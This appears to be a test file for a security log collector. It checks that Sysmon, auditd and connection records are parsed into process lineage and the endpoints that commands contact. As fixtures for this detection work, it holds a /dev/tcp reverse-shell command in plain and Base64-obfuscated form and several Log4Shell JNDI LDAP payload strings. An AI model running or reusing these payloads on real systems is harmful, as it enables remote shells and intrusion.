// Host logs of Linux: Sysmon, the audit system, connection summaries and connection texts, made by hand here; the recording is
// replayed in test/collector/linux-recording.test.ts.
import { expect, test } from 'vitest';
import { Role } from '@throughline/proto';
import { namedEndpoints, readings } from '../../enrich/named-endpoints.ts';
import { auditd } from './auditd.ts';
import { connectionText } from './connection-text.ts';
import { formatOf } from './index.ts';
import { sysmon } from './sysmon.ts';
import { vmConnection } from './vm-connection.ts';

const GUID = '{0a0b0c0d-1111-2222-3333-444455556666}';
const PARENT = '{0a0b0c0d-9999-2222-3333-444455556666}';
const NOBODY = '{00000000-0000-0000-0000-000000000000}';

function xml(id: number, data: Record<string, string>): string {
  const fields = Object.entries({ UtcTime: '2026-03-01 10:00:00.250', ProcessGuid: GUID, ProcessId: '42', ...data })
    .map(([name, value]) => `<Data Name="${name}">${value}</Data>`)
    .join('');
  return `<Event><System><Provider Name="Linux-Sysmon" Guid="{x}"/><EventID>${id}</EventID><Computer>Web-1</Computer></System><EventData>${fields}</EventData></Event>`;
}
const keysOf = (event: { keys?: unknown } | undefined): string[] =>
  ((event?.keys ?? []) as { kind: string; value: string; role: number }[]).map(
    (key) => `${key.kind} ${key.value} ${Role[key.role]}`,
  );

test('Sysmon: a start names its parent, its host and what its command names', () => {
  const line = `Mar  1 10:00:00 web-1 sysmon: ${xml(1, { Image: '/bin/bash', CommandLine: 'bash -c &quot;exec 5&lt;&gt;/dev/tcp/192.0.2.7/443&quot;', ParentImage: '/usr/bin/java', ParentProcessGuid: PARENT, ParentProcessId: '7', User: 'tomcat' })}`;
  expect(formatOf(line)).toBe(sysmon);
  const event = sysmon.decode(line);
  expect(event).toMatchObject({
    timeUs: Date.parse('2026-03-01T10:00:00.250Z') * 1_000,
    workload: { node: 'Web-1' },
    process: { hostPid: 42, executable: '/bin/bash', parentExecutable: '/usr/bin/java' },
    processExec: { filename: '/bin/bash' },
  });
  expect(event?.process?.arguments?.join(' ')).toBe('bash -c "exec 5<>/dev/tcp/192.0.2.7/443"');
  expect(keysOf(event)).toEqual([
    `exec-id sysmon/${GUID} SUBJECT`,
    'host-process web-1/42 SUBJECT',
    `exec-id sysmon/${PARENT} USED`,
    'host-process web-1/7 USED',
    'endpoint 192.0.2.7:443 MADE',
  ]);
});

test('Sysmon: an unknown parent and a runtime hold nothing together', () => {
  const unknown = sysmon.decode({
    SyslogMessage: xml(1, {
      Image: '/bin/ls',
      CommandLine: 'ls',
      ParentImage: '-',
      ParentProcessGuid: NOBODY,
      ParentProcessId: '9',
    }),
  });
  expect(keysOf(unknown)).toEqual([
    `exec-id sysmon/${GUID} SUBJECT`,
    'host-process web-1/42 SUBJECT',
    'host-process web-1/9 USED',
  ]);
  const login = sysmon.decode({
    SyslogMessage: xml(1, {
      Image: '/bin/bash',
      CommandLine: '-bash',
      ParentImage: '/usr/sbin/sshd',
      ParentProcessGuid: PARENT,
      ParentProcessId: '9',
    }),
  });
  expect(keysOf(login)).toEqual([`exec-id sysmon/${GUID} SUBJECT`, 'host-process web-1/42 SUBJECT']);
});

test('Sysmon: connections both ways, ends, files; the rest says nothing', () => {
  const ends = {
    Protocol: 'tcp',
    SourceIp: '10.0.0.5',
    SourcePort: '41000',
    DestinationIp: '192.0.2.7',
    DestinationPort: '389',
  };
  expect(sysmon.decode({ SyslogMessage: xml(3, { ...ends, Initiated: 'true' }) })?.socketConnect).toMatchObject({
    localPort: 41_000,
    remoteAddress: '192.0.2.7',
    remotePort: 389,
  });
  expect(sysmon.decode({ SyslogMessage: xml(3, { ...ends, Initiated: 'false' }) })?.socketAccept).toMatchObject({
    localAddress: '192.0.2.7',
    remoteAddress: '10.0.0.5',
  });
  expect(sysmon.decode({ SyslogMessage: xml(5, {}) })?.processExit).toBeDefined();
  expect(sysmon.decode({ SyslogMessage: xml(11, { TargetFilename: '/tmp/x' }) })?.fileOpen).toEqual({
    path: '/tmp/x',
    access: 'create',
  });
  expect(sysmon.decode({ SyslogMessage: xml(16, {}) })).toBeUndefined();
  expect(() => sysmon.decode({ SyslogMessage: 'hello' })).toThrow('Linux-Sysmon');
});

test('audit: three records of one start are one event, in the kernel’s own words', () => {
  const at = 'audit(1772359200.500:77):';
  const start = `node=web-1 type=SYSCALL msg=${at} arch=c000003e syscall=59 success=yes exit=0 ppid=7 pid=42 auid=4294967295 uid=33 comm="sh" exe="/bin/dash" key="exec"`;
  const words = `node=web-1 type=EXECVE msg=${at} argc=3 a0="sh" a1="-c" a2=6375726C206578616D706C652E6F7267`;
  expect([start, words].map((line) => formatOf(line))).toEqual([auditd, auditd]);
  expect(auditd.decode(start)).toBeUndefined();
  const event = auditd.decode(words);
  expect(event).toMatchObject({
    id: 'auditd-web-1/1772359200.500:77',
    timeUs: 1_772_359_200_500_000,
    process: {
      hostPid: 42,
      parentPid: 7,
      uid: 33,
      executable: '/bin/dash',
      arguments: ['sh', '-c', 'curl', 'example.org'],
    },
  });
  expect(keysOf(event)).toEqual(['host-process web-1/42 SUBJECT', 'host-process web-1/7 USED']);
  expect(auditd.decode(`node=web-1 type=PROCTITLE msg=${at} proctitle=7368`)).toBeUndefined();
});

test('audit: auoms tells a start in one record, and by its failed tries what the process was before', () => {
  const record = (success: string, exe: string, more: string): unknown => ({
    Computer: 'web-1',
    SyslogMessage: `type=AUOMS_EXECVE audit(1772359200.500:${success === 'yes' ? 9 : 8}): node=web-1 syscall=execve success=${success} ppid=7 pid=42 uid=33 exe="${exe}" ${more}`,
  });
  expect(
    auditd.decode(record('no', '/usr/bin/java', 'proctitle=/usr/bin/java -jar a.jar redactors= containerid=')),
  ).toBeUndefined();
  expect(
    auditd.decode(record('yes', '/bin/bash', 'cmdline="bash -c "id; ls"" redactors= containerid='))?.process,
  ).toMatchObject({
    executable: '/bin/bash',
    parentExecutable: '/usr/bin/java',
    arguments: ['bash', '-c', '"id;', 'ls"'],
  });
});

test('connections: a summary by program, and texts with who was named in them', () => {
  const summary = {
    Type: 'VMConnection',
    Computer: 'web-1',
    Direction: 'outbound',
    ProcessName: 'java',
    SourceIp: '10.0.0.5',
    DestinationIp: '192.0.2.7',
    DestinationPort: 1389,
    Protocol: 'tcp',
    TimeGenerated: '2026-03-01T10:00:00Z',
  };
  expect(formatOf(summary)).toBe(vmConnection);
  expect(vmConnection.decode(summary)).toMatchObject({
    process: { executable: 'java' },
    socketConnect: { remotePort: 1389 },
  });

  const sent = {
    time: '2026-03-01T10:00:00.1Z',
    src: '203.0.113.9:4000',
    dst: '10.0.0.5:8080',
    bytes: 9,
    text: 'GET /?x=$%7Bjndi:ldap://192.0.2.7:1389/a%7D HTTP/1.1\r\nHost: shop\r\nUser-Agent: curl/8\r\n\r\n',
  };
  expect(formatOf(sent)).toBe(connectionText);
  const event = connectionText.decode(sent);
  expect(event?.activity).toMatchObject({
    peerAddress: '203.0.113.9',
    userAgent: 'curl/8',
    http: { method: 'GET', host: 'shop' },
  });
  expect(keysOf(event)).toEqual(['connection tcp/10.0.0.5:8080-203.0.113.9:4000 USED', 'endpoint 192.0.2.7:1389 MADE']);
  // The same words in an answer name nothing.
  expect(
    keysOf(connectionText.decode({ ...sent, text: 'HTTP/1.1 200\r\n\r\n${jndi:ldap://192.0.2.7:1389/a}' })),
  ).toHaveLength(1);
  expect(connectionText.decode({ ...sent, text: undefined, event: 'accept' })).toBeUndefined();
});

test('places are read out of nested look-ups and Base64, and nowhere else', () => {
  const hidden = Buffer.from('bash -i >& /dev/tcp/192.0.2.7/443 0>&1').toString('base64');
  expect(namedEndpoints(`bash -c {echo,${hidden}}|{base64,-d}|bash`)).toEqual([{ address: '192.0.2.7', port: 443 }]);
  expect(namedEndpoints('${${lower:j}ndi:${::-l}dap://192.0.2.7/x}')).toEqual([{ address: '192.0.2.7', port: 389 }]);
  expect(namedEndpoints('see https://example.org:8443/ and 192.0.2.7:443')).toEqual([]);
  expect(namedEndpoints('jndi:ldap://192.0.2.7:99999/x')).toEqual([]);
  expect(readings('x'.repeat(20_000))[0]).toHaveLength(16_384);
});
